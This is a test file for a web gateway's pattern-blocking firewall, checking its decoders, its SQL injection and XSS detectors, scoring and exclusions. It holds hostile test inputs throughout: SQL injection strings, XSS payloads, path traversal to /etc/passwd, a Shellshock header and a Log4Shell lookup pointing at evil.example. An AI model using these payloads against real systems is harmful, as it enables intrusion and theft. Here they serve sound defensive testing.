import t from 'tap';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Value } from '@sinclair/typebox/value';
import {
  patternBlock,
  engineFromConfig,
  type PatternBlockConfig,
} from '../../../policies/pattern-block/index.js';
import {
  headOf,
  inspectBody,
  inspectHead,
  inspectRequest,
  pointerField,
  type Engine,
} from '../../../policies/pattern-block/engine.js';
import {
  urlDecodeRepeat,
  htmlEntityDecode,
  jsDecode,
  nfkc,
  normalizePath,
  replaceComments,
  cmdLine,
  removeNulls,
  compressWhitespace,
} from '../../../policies/pattern-block/transforms.js';
import { detectSqli } from '../../../policies/pattern-block/detectors/sqli.js';
import { detectXss } from '../../../policies/pattern-block/detectors/xss.js';
import { parseBody } from '../../../gateway/body.js';
import type { RequestContext } from '../../../gateway/context.js';
import type { CompileContext, Deny } from '../../../gateway/policy.js';
import { createContext } from '../../../gateway/context-factory.js';
import { ConfigError } from '../../../gateway/errors.js';

function config(over: Partial<PatternBlockConfig> = {}): PatternBlockConfig {
  return { ...(Value.Default(patternBlock.schema, {}) as PatternBlockConfig), ...over };
}
const H = { Host: 'receipts.example.com', 'User-Agent': 'test/1.0', Accept: 'application/json' };

/** The verdict of `e` on a JSON POST of `body` to /api/receipts. */
function postReceipt(e: Engine, body: string): ReturnType<typeof inspectRequest> {
  return inspectRequest(e, {
    method: 'POST',
    target: '/api/receipts',
    headers: { ...H, 'Content-Type': 'application/json' },
    body,
  });
}

t.test('transforms', async (t) => {
  t.equal(urlDecodeRepeat('%252e%252e%252f'), '../');
  t.equal(urlDecodeRepeat('%c0%ae%c0%ae%c0%af'), '../', 'overlong UTF-8');
  t.equal(urlDecodeRepeat('%uff0e'), '．');
  t.equal(urlDecodeRepeat('100%'), '100%', 'invalid escapes stay');
  t.equal(htmlEntityDecode('&#x3C;&#60&lt;&colon;&Tab;'), '<<<:\t');
  t.equal(jsDecode('\\x3c\\u0073\\0075 x'), '<sux');
  t.equal(nfkc('＜script＞'), '<script>');
  t.equal(normalizePath('a\\\\b//./c/../d'), 'a/b/c/../d');
  t.equal(normalizePath('..\u2215..\u2216etc'), '../../etc');
  t.equal(replaceComments('UN/**/ION/*!50000SELECT*/'), 'UN ION SELECT ');
  t.equal(cmdLine('C"a"t ; /e\\tc'), 'cat/etc');
  t.equal(removeNulls('a\0b'), 'ab');
  t.equal(compressWhitespace('a \n\t b'), 'a b');
});

t.test('SQL tokenizer judge', async (t) => {
  for (const a of [
    "1' or '1'='1",
    "admin'--",
    '1 union select 1,2',
    "'; drop table users--",
    ' or 1=1--',
    '1=1',
    "x') and sleep(5)#",
    // T-SQL runs a statement after a string without a separator
    "x' select 1",
    "x' select @@version",
    "x' waitfor delay '0:0:5'--",
    'x" like "%',
    "x' select password from users",
    'or @a=1',
    'or@@version',
    'x" between 1 and 9 --',
  ])
    t.ok(detectSqli(a.toLowerCase()), a);
  for (const b of [
    "o'brien's pub",
    'union square cafe',
    'order by phone',
    'coffee or tea',
    "p@ss'w0rd;--",
    'notes: select the cheaper option; drop the extra room',
    "dave & buster's",
    'a&b=c',
    // after the break, SELECT of nothing but the quoted rest: a constant, however it parses
    "meeting room 'select' on floor 3 -- coffee & pastries.",
    // a quoted phrase in a search box: an operator word, a bare word, then the quoted rest
    'office chair "between flights"',
    'laptop stand "like new"',
    // a password with @ for a letter after a logical word
    'or@nge-juic3',
    'and@lucia2025!',
    'or @home',
  ])
    t.notOk(detectSqli(b), b);
});

t.test('HTML/JS context check', async (t) => {
  for (const a of [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">',
    '<svg/onload=alert(1)>',
    '<div style="x:expression(alert(1))">',
  ])
    t.ok(detectXss(a), a);
  for (const b of ['<3 thanks', '<s3cret>', 'a < b and c > d', 'price > list price?'])
    t.notOk(detectXss(b), b);
});

t.test('script URLs outside tags: code after the scheme, not prose', async (t) => {
  // (detectXss sees transformed values: lower case)
  for (const a of [
    'javascript:alert(1)',
    'javascript: alert (1)',
    'java script : alert`1`',
    'javascript:void 0',
    "javascript:new image().src='//x'",
    'javascript:',
    "bought 'javascript: the good parts'; javascript:alert(1)",
    'vbscript:msgbox(1)',
  ])
    t.ok(detectXss(a), a);
  for (const b of [
    "bought 'javascript: the good parts' and 'sql for mere mortals'",
    'javascript: 101 course for the team',
    'course: javascript: the definitive guide (7th ed.)',
  ])
    t.notOk(detectXss(b), b);
  // the evidence points into the value as sent, not into its whitespace-free form
  const v = 'see the book javascript: the good parts; then javascript:alert(1)';
  t.equal(detectXss(v)?.at, v.lastIndexOf('javascript:'));
});

t.test(
  'targets: JSON leaves and keys, form fields, multipart fields and filenames, cookies, headers',
  async (t) => {
    const e = engineFromConfig(config(), process.cwd());
    const post = (ct: string, body: string) =>
      inspectRequest(e, {
        method: 'POST',
        target: '/api/receipts',
        headers: { ...H, 'Content-Type': ct },
        body,
      });
    t.same(
      post('application/json', '{"items":[{"name":"x\' or \'1\'=\'1"}]}').matches.map((m) => m.target),
      ['json:items[0].name'],
    );
    t.same(
      [...new Set(post('application/json', '{"<script>alert(1)</script>":1}').matches.map((m) => m.target))],
      ['json_key:<script>alert(1)</script>'],
    );
    t.equal(post('application/x-www-form-urlencoded', 'q=..%2f..%2fetc%2fpasswd').decision, 'deny');
    const mp =
      '--B\r\nContent-Disposition: form-data; name="note"\r\n\r\n; cat /etc/passwd\r\n--B\r\nContent-Disposition: form-data; name="file"; filename="x.php"\r\n\r\nx\r\n--B--\r\n';
    const v = post('multipart/form-data; boundary=B', mp);
    t.ok(v.matches.some((m) => m.target === 'multipart:note'));
    t.ok(v.matches.some((m) => m.target === 'filename:file' && m.ruleId === 'php-110'));
    const c = inspectRequest(e, {
      method: 'GET',
      target: '/api/receipts',
      headers: { ...H, Cookie: 'sid=abc; pref=<script>alert(1)</script>' },
    });
    t.equal(c.decision, 'deny');
    t.equal(c.matches[0]!.excerpt, '[redacted]', 'cookie values are never echoed');
    t.equal(
      inspectRequest(e, {
        method: 'GET',
        target: '/',
        headers: { ...H, Referer: '<script >alert(1);</script>' },
      }).decision,
      'deny',
    );
  },
);

t.test('anomaly scoring, deny shape, thresholds', async (t) => {
  const e = engineFromConfig(config(), process.cwd());
  const v = inspectRequest(e, {
    method: 'GET',
    target: "/api/receipts?search=1'%20union%20select%20password%20from%20users--",
    headers: H,
  });
  t.equal(v.decision, 'deny');
  t.equal(v.deny!.code, 'request_blocked');
  t.equal(v.deny!.reason, 'sqli');
  t.ok(v.deny!.ruleIds!.includes('sqli-100'));
  const d = v.deny!.detail as {
    score: number;
    families: Record<string, number>;
    matches: { target: string; rule: string; excerpt: string }[];
  };
  t.ok(d.score >= 5);
  t.ok(d.families.sqli! >= 5);
  t.ok(d.matches.every((m) => m.excerpt.length <= 40 && m.target === 'query:search'));
  t.equal(
    inspectRequest(e, {
      method: 'GET',
      target: '/api/receipts?merchant=Union+Square+Cafe&sort=-date',
      headers: H,
    }).decision,
    'allow',
  );
  const high = engineFromConfig(config({ threshold: 100 }), process.cwd());
  t.equal(inspectRequest(high, { method: 'GET', target: '/?q=%3Cscript%3E', headers: H }).decision, 'allow');
  const fam = engineFromConfig(config({ family_thresholds: { protocol: 10 } }), process.cwd());
  t.equal(
    inspectRequest(fam, { method: 'GET', target: '/', headers: { ...H, 'Cache-Control': 'private' } })
      .decision,
    'allow',
    'protocol judged alone at 10',
  );
  t.equal(
    inspectRequest(engineFromConfig(config(), process.cwd()), {
      method: 'GET',
      target: '/',
      headers: { ...H, 'Cache-Control': 'private' },
    }).decision,
    'deny',
  );
});

t.test('exclusions by route, path, target, family and rule id', async (t) => {
  const login = {
    method: 'POST',
    target: '/api/auth/login',
    route: 'login',
    headers: { ...H, 'Content-Type': 'application/json' },
    body: '{"username":"a","password":"x;id;"}',
  };
  t.equal(inspectRequest(engineFromConfig(config(), process.cwd()), login).decision, 'deny');
  const ex = engineFromConfig(
    config({ exclusions: [{ routes: ['login'], targets: ['json:password'], families: ['cmd_injection'] }] }),
    process.cwd(),
  );
  t.equal(inspectRequest(ex, login).decision, 'allow');
  t.equal(inspectRequest(ex, { ...login, route: 'other' }).decision, 'deny', 'other routes keep the rule');
  const byRule = engineFromConfig(
    config({ exclusions: [{ paths: ['/api/auth/**'], rules: ['rce-*'] }] }),
    process.cwd(),
  );
  t.equal(inspectRequest(byRule, login).decision, 'allow');
  const disabled = engineFromConfig(config({ disabled_rules: ['rce-100'] }), process.cwd());
  t.equal(inspectRequest(disabled, login).decision, 'allow');
});

t.test('rule ids, prefixes and families an exclusion or disabled_rules names must exist', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rgw-ruleids-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  fs.writeFileSync(
    path.join(dir, 'local.yaml'),
    `- id: local-200
  family: xss
  paranoia: 2
  score: 5
  description: template expression
  targets: [args]
  regex: "\\\\{\\\\{"
  examples:
    match: ["{{7*7}}"]
    no_match: ["{ a }"]
`,
  );
  // known: a rule above the paranoia level, one of a pack that is off, one of a custom pack,
  // prefixes of each, the family aliases, the body-parse-error finding in an exclusion
  const known = config({
    paranoia_level: 1,
    packs: { php: 'off' },
    rule_files: ['local.yaml'],
    disabled_rules: ['sqli-200', 'php-100', 'local-200', 'xss-20*', 'local-*'],
    exclusions: [
      { rules: ['proto-14*', 'php-1*', 'local-200', 'body-parse-error'], families: ['lfi', 'rce', 'php'] },
    ],
  });
  t.doesNotThrow(() => engineFromConfig(known, dir));

  const one = (c: Partial<PatternBlockConfig>, at: readonly (string | number)[] = []): ConfigError => {
    try {
      engineFromConfig(config({ rule_files: ['local.yaml'], ...c }), dir, at);
    } catch (err) {
      if (err instanceof ConfigError) return err;
      throw err;
    }
    throw new Error('accepted');
  };
  const bad = one({ exclusions: [{ rules: ['rce-100'] }, { rules: ['sqli-1OO'] }] }, [
    'routes',
    3,
    'policies',
    'pattern_block',
  ]);
  t.equal(bad.message, 'unknown rule id "sqli-1OO" (no rule of the loaded packs has it)');
  t.same(bad.path, ['routes', 3, 'policies', 'pattern_block', 'exclusions', 1, 'rules', 0]);
  t.equal(
    one({ disabled_rules: ['local-2OO'] }).message,
    'unknown rule id "local-2OO" (no rule of the loaded packs has it)',
  );
  t.same(one({ disabled_rules: ['sqli-9*'] }).path, ['disabled_rules', 0]);
  t.equal(
    one({ disabled_rules: ['sqli-9*'] }).message,
    'rule id prefix "sqli-9*" matches no rule of the loaded packs',
  );
  t.equal(
    one({ exclusions: [{ rules: ['932*'] }] }).message,
    'rule id prefix "932*" matches no rule of the loaded packs',
    "the schema's old prefix example",
  );
  t.match(
    one({ disabled_rules: ['body-parse-error'] }).message,
    /^unknown rule id "body-parse-error" \(not a rule/,
  );
  t.same(one({ exclusions: [{ families: ['xss', 'sqlj'] }] }).path, ['exclusions', 0, 'families', 1]);
  t.match(
    one({ exclusions: [{ families: ['sqlj'] }] }).message,
    /^unknown family "sqlj" \(families: sqli, xss, /,
  );

  // several problems in one block: all of them, in order
  let all: unknown;
  try {
    engineFromConfig(
      config({
        packs: { nope: 'off' },
        disabled_rules: ['x-1'],
        exclusions: [{ rules: ['y-*'], families: ['z'] }],
      }),
      dir,
    );
  } catch (err) {
    all = err;
  }
  t.ok(all instanceof AggregateError, 'an AggregateError');
  t.same(
    ((all as AggregateError).errors as ConfigError[]).map((e) => e.path.join('.')),
    ['packs.nope', 'disabled_rules.0', 'exclusions.0.rules.0', 'exclusions.0.families.0'],
  );

  // the pseudo-rule an exclusion may name is the one the engine reports
  const broken = {
    method: 'POST',
    target: '/api/receipts',
    headers: { ...H, 'Content-Type': 'application/json' },
    body: '{"merchant": ',
  };
  const plain = inspectRequest(engineFromConfig(config(), dir), broken);
  t.same(
    plain.matches.map((m) => m.ruleId),
    ['body-parse-error'],
  );
  const excluded = engineFromConfig(config({ exclusions: [{ rules: ['body-parse-error'] }] }), dir);
  t.equal(inspectRequest(excluded, broken).decision, 'allow');
});

t.test('paranoia level, pack monitor mode, free-text threshold, content types', async (t) => {
  const q = { method: 'GET', target: '/api/receipts?q=%3Cscript%3Ealert(1)%3C/script%3E', headers: H };
  const mon = engineFromConfig(config({ packs: { xss: 'monitor' } }), process.cwd());
  const v = inspectRequest(mon, q);
  t.equal(v.decision, 'monitor');
  t.equal((v.deny!.detail as { monitor: boolean }).monitor, true);
  t.equal(
    inspectRequest(engineFromConfig(config({ packs: { xss: 'off' } }), process.cwd()), q).decision,
    'allow',
  );
  const note = {
    method: 'POST',
    target: '/api/receipts',
    headers: { ...H, 'Content-Type': 'application/json' },
    body: '{"notes":"see <script>x</script>"}',
  };
  const free = engineFromConfig(
    config({ free_text_fields: ['notes'], free_text_threshold: 15 }),
    process.cwd(),
  );
  t.equal(inspectRequest(free, note).decision, 'allow');
  t.equal(inspectRequest(engineFromConfig(config(), process.cwd()), note).decision, 'deny');
  const xml = {
    method: 'POST',
    target: '/api/receipts',
    headers: { ...H, 'Content-Type': 'application/xml' },
    body: '<a/>',
  };
  t.equal(inspectRequest(engineFromConfig(config(), process.cwd()), xml).decision, 'deny');
  t.equal(
    inspectRequest(
      engineFromConfig(config({ allowed_content_types: ['application/xml'] }), process.cwd()),
      xml,
    ).decision,
    'allow',
  );
  t.throws(() => engineFromConfig(config({ packs: { nope: 'off' } }), process.cwd()), /unknown rule pack/);
  t.equal(
    engineFromConfig(config({ paranoia_level: 4 }), process.cwd()).ruleCount >=
      engineFromConfig(config(), process.cwd()).ruleCount,
    true,
  );
});

t.test('a JSON Patch operation value is judged as the field its path names', async (t) => {
  t.equal(pointerField('/notes'), 'notes');
  t.equal(pointerField('/items/3/name'), 'name');
  t.equal(pointerField('/items/-'), 'items');
  t.equal(pointerField('/a~1b/c~0d'), 'c~d');
  t.equal(pointerField('/a~1b'), 'a/b');
  t.equal(pointerField('/0'), undefined);
  t.equal(pointerField(''), undefined);
  const e = engineFromConfig(
    config({
      free_text_fields: ['notes'],
      free_text_threshold: 10,
      exclusions: [{ targets: ['json:merchant'], families: ['xss'] }],
    }),
    process.cwd(),
  );
  const patch = (ops: unknown, ct = 'application/json-patch+json') =>
    inspectRequest(e, {
      method: 'PATCH',
      target: '/api/receipts/7',
      headers: { ...H, 'Content-Type': ct },
      body: JSON.stringify(ops),
    });
  // one rule (5) in a free-text field stays under its threshold (10), as in {"notes": …}
  const one = 'see ../2023/receipts on the shared drive';
  const onNotes = patch([{ op: 'replace', path: '/notes', value: one }]);
  t.equal(onNotes.decision, 'allow');
  t.same(
    onNotes.matches.map((m) => [m.ruleId, m.target, m.freeText]),
    [['lfi-100', 'json:[0].value', true]],
  );
  t.equal(patch({ notes: one }, 'application/json').decision, 'allow');
  // the same value under another field, or outside a JSON Patch body, is scored as usual
  t.equal(patch([{ op: 'replace', path: '/merchant', value: one }]).decision, 'deny');
  t.equal(patch([{ op: 'replace', path: '/notes', value: one }], 'application/json').decision, 'deny');
  // exclusions name the field too; the other members are judged under their own names
  t.equal(patch([{ op: 'add', path: '/merchant', value: '<script>alert(1)</script>' }]).decision, 'allow');
  t.equal(
    patch([{ op: 'add', path: '/merchant', from: '<script>alert(1)</script>', value: 'x' }]).decision,
    'deny',
  );
  // operations without a path string, and nested values, are walked as plain JSON
  t.equal(patch([{ op: 'add', value: one }]).decision, 'deny');
  t.equal(patch([{ op: 'add', path: '/items/-', value: { name: one } }]).decision, 'deny');
});

t.test(
  'a value longer than max_value_length is judged whole, in overlapping windows of its transformed form',
  async (t) => {
    const e = engineFromConfig(config({ max_value_length: 1024 }), process.cwd());
    const attack = "1' UNION SELECT username, password FROM users --";
    const post = (merchant: string) => postReceipt(e, JSON.stringify({ merchant, total: 1 }));
    const pad = (n: number) => 'receipt '.repeat(Math.ceil(n / 8)).slice(0, n);
    t.equal(post(pad(5000)).decision, 'allow', 'long and clean');
    for (const at of [0, 1000, 1020, 2000, 5000, 9000, 20_000]) {
      const v = post(pad(at) + attack + pad(3000));
      t.equal(v.decision, 'deny', `the attack after ${at} characters`);
      t.ok(v.matches.some((m) => m.ruleId === 'sqli-100' && m.target === 'json:merchant'));
    }
    // at the very end, and across every window boundary (windows of 1024 that step by 896)
    t.equal(post(pad(30_000) + attack).decision, 'deny');
    for (let at = 896 - attack.length; at < 896 * 3; at += 37)
      t.equal(post(pad(at) + attack).decision, 'deny', `at ${at}`);
    // padding inside the attack that the transforms remove (whitespace runs, encoded spaces,
    // comments) does not stretch it past the windows: they apply to the transformed value
    for (const gap of [' '.repeat(3000), '%20'.repeat(2000), '/**/'.repeat(1000), '\t \n'.repeat(900)]) {
      const v = post(`${pad(5000)} 1' UNION${gap}SELECT password FROM users-- ${pad(5000)}`);
      t.equal(v.decision, 'deny', `a gap of ${gap.length} characters`);
    }
  },
);

t.test('JSON nested deeper than the walk follows is a finding, not a way around it', async (t) => {
  const e = engineFromConfig(config(), process.cwd());
  const nest = (n: number, leaf: unknown): unknown => (n === 0 ? leaf : { a: nest(n - 1, leaf) });
  const post = (json: unknown) => postReceipt(e, JSON.stringify(json));
  const shallow = post(nest(31, "x' OR '1'='1"));
  t.equal(shallow.decision, 'deny');
  t.ok(
    shallow.matches.some((m) => m.family === 'sqli'),
    'inspected at depth 31',
  );
  t.notOk(shallow.matches.some((m) => m.ruleId === 'proto-152'));
  for (const json of [nest(40, "x' OR '1'='1"), nest(40, 'plain'), [nest(39, 1)]]) {
    const deep = post(json);
    t.equal(deep.decision, 'deny');
    t.same(
      deep.matches.map((m) => m.ruleId),
      ['proto-152'],
    );
  }
  t.equal(post(nest(10, 'plain')).decision, 'allow');
});

t.test('a body with more values than max_args is a finding, not a way around the rules', async (t) => {
  const e = engineFromConfig(config({ max_args: 64 }), process.cwd());
  const post = (json: unknown) => postReceipt(e, JSON.stringify(json));
  const fill = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`n${i}`, `v${i}`]));
  const attack = '<script>alert(document.cookie)</script>';
  // 31 keys and 31 values, then the attack's key (63) and value (64): all inspected
  t.ok(post({ ...fill(31), z: attack }).matches.some((m) => m.family === 'xss'));
  // one more pair: the last value is past the budget, so the request gets proto-151
  for (const json of [
    { ...fill(32), z: attack },
    { ...fill(32), z: 'plain' },
    [fill(32), { z: attack }],
    { items: Array.from({ length: 40 }, (_, i) => ({ name: `item ${i}` })) },
  ]) {
    const v = post(json);
    t.equal(v.decision, 'deny');
    t.ok(
      v.matches.some((m) => m.ruleId === 'proto-151'),
      'proto-151',
    );
  }
  // numbers hold nothing to inspect (their keys do: 62 + 2 keys is the budget exactly)
  t.equal(post({ ...fill(31), y: 1, z: 2 }).decision, 'allow');
  t.equal(post({ a: Array.from({ length: 500 }, (_, i) => i) }).decision, 'allow');
  // the same for cookies past the budget
  const cookies = Array.from({ length: 70 }, (_, i) => `c${i}=v`).join('; ');
  const c = inspectRequest(e, { method: 'GET', target: '/api/receipts', headers: { ...H, Cookie: cookies } });
  t.ok(c.matches.some((m) => m.ruleId === 'proto-151'));
});

t.test('the clean-name memo never hides a finding', async (t) => {
  const e = engineFromConfig(config(), process.cwd());
  const q = (target: string) => inspectRequest(e, { method: 'GET', target, headers: H }).decision;
  // a field-name-scoped rule (rfi-110 on include-like parameters) is not fooled by a clean verdict elsewhere
  t.equal(q('/x?website=https://foo.example/a.txt'), 'allow');
  t.equal(q('/x?include=https://foo.example/a.txt'), 'deny');
  // query values are remembered per combination of `names` patterns their field matches:
  // a value found clean under one field is still judged under a field the pattern names
  for (let i = 0; i < 3; i++) {
    t.equal(q('/x?website=https://foo.example/b.txt'), 'allow');
    t.equal(q('/x?site=https://foo.example/b.txt'), 'deny');
    t.equal(q('/x?url=https://foo.example/b.txt&page=https://foo.example/b.txt'), 'deny');
  }
  // raw query pairs found clean are remembered as received: the same value under another
  // name, or encoded otherwise, is judged again, and a pair that matched is never remembered
  for (let i = 0; i < 3; i++) {
    t.equal(q("/x?q=o'brien%20or%20smith&page=1"), 'allow');
    t.equal(q("/x?q=1'%20or%20'1'%3D'1&page=1"), 'deny');
    t.equal(q('/x?include=https://foo.example/c.txt&page=1'), 'deny');
    t.equal(q('/x?website=https://foo.example/c.txt&page=1'), 'allow');
    t.equal(q('/x?q=%3Cscript%3Ealert(1)%3C/script%3E'), 'deny');
    t.equal(q('/x?q=<script>alert(1)</script>'), 'deny');
  }
  // a header value seen clean stays judged by value: a different value is inspected
  const ua = (v: string) =>
    inspectRequest(e, { method: 'GET', target: '/', headers: { ...H, 'User-Agent': v } }).decision;
  t.equal(ua('Mozilla/5.0 (X11; Linux x86_64)'), 'allow');
  t.equal(ua('Mozilla/5.0 (X11; Linux x86_64)'), 'allow');
  t.equal(ua('() { :;}; /bin/bash -c id'), 'deny');
  // repeated JSON keys: a key found once clean, then an attacking key
  const post = (body: string) => postReceipt(e, body).decision;
  t.equal(post('{"merchant":"a"}'), 'allow');
  t.equal(post('{"merchant":"a","<svg onload=alert(1)>":1}'), 'deny');
});

function fakeCtx(target: string, headers: Record<string, string>, method = 'GET'): RequestContext {
  const lower: Record<string, string> = {};
  const raw: string[] = [];
  for (const [k, v] of Object.entries(headers)) {
    lower[k.toLowerCase()] = v;
    raw.push(k, v);
  }
  const ctx = createContext({
    id: 'r1',
    method,
    target,
    headers: lower,
    rawHeaders: raw,
    clientIp: '127.0.0.1',
    secure: false,
    httpVersion: '1.1',
    bodySource: undefined as never,
    signal: new AbortController().signal,
  });
  ctx.routeName = 'receipts';
  return ctx;
}

t.test('the policy: onRequest denies on the head, onBody on the body, monitor packs record', async (t) => {
  const cctx = {
    services: {} as never,
    path: ['policies', 'pattern_block'],
    config: {},
    configDir: process.cwd(),
  } as CompileContext;
  const p = await patternBlock.compile(config(), cctx);
  t.equal(p.needsBody, true);
  t.equal(p.failure, 'open');
  const bad = fakeCtx('/api/receipts?q=..%2f..%2fetc%2fpasswd', H);
  t.equal((p.onRequest!(bad) as Deny).reason, 'path_traversal');
  const ok = fakeCtx('/api/receipts', { ...H, 'Content-Type': 'application/json' }, 'POST');
  t.equal(p.onRequest!(ok), undefined);
  ok.body = parseBody('application/json', '{"merchant":"<img src=x onerror=alert(1)>"}');
  t.equal((p.onBody!(ok) as Deny).reason, 'xss');
  const clean = fakeCtx('/api/receipts', { ...H, 'Content-Type': 'application/json' }, 'POST');
  clean.body = parseBody('application/json', '{"merchant":"Barnes & Noble","notes":"Order by phone"}');
  t.equal(p.onBody!(clean), undefined);
  const pm = await patternBlock.compile(config({ packs: { xss: 'monitor' } }), cctx);
  const m = fakeCtx('/api/receipts?q=%3Csvg%20onload%3Dalert(1)%3E', H);
  t.equal(pm.onRequest!(m), undefined);
  t.equal(pm.onBody!(m), undefined);
  t.equal(m.monitored.length, 1);
  t.equal(m.monitored[0]!.reason, 'xss');
});

t.test('a coded body without a declared length is judged once the body is known (proto-173)', async (t) => {
  const e = engineFromConfig(config(), process.cwd());
  const { head, body } = headOf({
    method: 'POST',
    target: '/api/receipts',
    headers: { ...H, 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' },
    body: '{"merchant":"Corner Cafe"}',
  });
  // an HTTP/2 request: neither Content-Length nor Transfer-Encoding
  const headers = { ...head.headers };
  delete headers['content-length'];
  const rawHeaders: string[] = [];
  for (let i = 0; i < head.rawHeaders.length; i += 2)
    if (head.rawHeaders[i]!.toLowerCase() !== 'content-length')
      rawHeaders.push(head.rawHeaders[i]!, head.rawHeaders[i + 1]!);
  const h2 = { ...head, headers, rawHeaders, httpVersion: '2.0' };
  t.same(
    inspectHead(e, h2).map((m) => m.ruleId),
    [],
    'the head alone shows no body',
  );
  t.same(
    inspectBody(e, h2, body!).map((m) => m.ruleId),
    ['proto-173'],
  );
});

t.test('skip_headers: a listed header is not inspected, unless a rule names it; others are', async (t) => {
  const jndi = '${jndi:ldap://evil.example/a}';
  const sqli = "1' or '1'='1";
  const ids = (e: Engine, headers: Record<string, string>) =>
    inspectHead(e, headOf({ method: 'GET', target: '/api/receipts', headers: { ...H, ...headers } }).head)
      .map((m) => `${m.ruleId} ${m.target}`)
      .sort();
  const e = engineFromConfig(config(), process.cwd());
  // authorization is in the default list; a custom header is read by the rules on every header
  t.same(ids(e, { Authorization: jndi }), []);
  t.same(ids(e, { 'X-Trace': jndi }), ['rce-160 header:x-trace']);
  // rules that name a header read it (user-agent), and only there (not x-trace)
  t.same(ids(e, { 'User-Agent': sqli }), ['sqli-100 header:user-agent']);
  t.same(ids(e, { 'X-Trace': sqli }), []);
  const custom = engineFromConfig(config({ skip_headers: ['X-Trace', 'user-agent'] }), process.cwd());
  t.same(ids(custom, { 'X-Trace': jndi }), [], 'listed in any case');
  t.same(
    ids(custom, { Authorization: jndi }),
    ['rce-160 header:authorization'],
    'the list replaces the default',
  );
  t.same(
    ids(custom, { 'User-Agent': `${sqli} ${jndi}` }).length > 0,
    true,
    'a rule naming the header still reads it',
  );
});
